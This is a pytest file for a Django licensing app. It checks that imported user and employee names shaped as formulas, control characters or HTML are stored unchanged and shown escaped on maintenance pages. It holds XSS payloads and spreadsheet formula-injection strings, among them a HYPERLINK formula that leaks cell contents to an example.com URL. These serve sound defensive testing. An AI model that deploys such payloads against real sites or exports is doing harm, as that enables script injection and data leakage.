"""Names that look like formulas, start with a tab or CR, or carry HTML are legal snapshot data; imported,
they are shown as text on every maintenance page (Django autoescape), never as markup."""

import io
import json
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from environments.models import EnvironmentUser
from tests.factories import EnvironmentFactory

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
NAMES = [
    '=HYPERLINK("http://example.com/?leak="&A1,"klik")',
    "=1+1",
    "+31 20 123 4567",
    "-2+3",
    "@SUM(A1:A2)",
    "\tJ. Jansen",
    "\rP. de Boer",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
]
# A quoted local part may hold markup, and is a valid address.
SCRIPT_EMAIL = '"<script>alert(1)</script>"@example.nl'


@pytest.fixture
def imported(customer_a, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    EnvironmentFactory(customer=customer_a, type="O", code="O12345AA")
    snapshot = {
        "format": 1,
        "environment": "O12345AA",
        "taken_at": (timezone.now() - timedelta(hours=1)).isoformat(),
        # No last login: each is a cleanup candidate too, so it shows on that page as well.
        "users": [
            {
                "code": f"12345.user{position}",
                "name": name,
                "profit": True,
                "insite": False,
                "outsite": False,
                "blocked": False,
                "email": SCRIPT_EMAIL if name == SCRIPT else "",
            }
            for position, name in enumerate(NAMES)
        ],
        "employees": [
            {"guid": f"6f1c2d3e-0000-4000-8000-{position:012d}", "name": name, "in_service": True}
            for position, name in enumerate(NAMES)
        ],
        "declarations": [],
        "clients": [],
    }
    with open("O12345AA.json", "w", encoding="utf-8") as file:
        json.dump(snapshot, file)
    call_command("import_snapshot", "O12345AA.json", stdout=io.StringIO())
    return EnvironmentUser.objects.filter(environment__code="O12345AA")


def assert_shown_as_text(content: str, names) -> None:
    assert SCRIPT not in content
    assert "<img src=x" not in content
    for name in names:
        assert escape(name) in content, name


def test_the_names_are_stored_exactly_as_delivered(imported):
    assert sorted(imported.values_list("name", flat=True)) == sorted(NAMES)
    assert imported.get(name=SCRIPT).email == SCRIPT_EMAIL


@pytest.mark.parametrize(
    "url",
    [
        reverse("licensing:maintenance"),
        reverse("licensing:maintenance_employees"),
        reverse("licensing:maintenance_cleanup"),
    ],
)
def test_the_maintenance_lists_show_every_name_escaped(client, beheerder, imported, url):
    client.force_login(beheerder.user)

    response = client.get(url)

    assert response.status_code == 200
    assert_shown_as_text(response.content.decode(), NAMES)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.content.decode()


def test_the_user_page_shows_its_name_escaped(client, beheerder, imported):
    client.force_login(beheerder.user)

    for user in imported:
        response = client.get(reverse("licensing:maintenance_user", args=[user.identity_id]))

        assert response.status_code == 200
        assert_shown_as_text(response.content.decode(), [user.name])
    script = imported.get(name=SCRIPT)
    content = client.get(reverse("licensing:maintenance_user", args=[script.identity_id])).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content
    assert escape(SCRIPT_EMAIL) in content
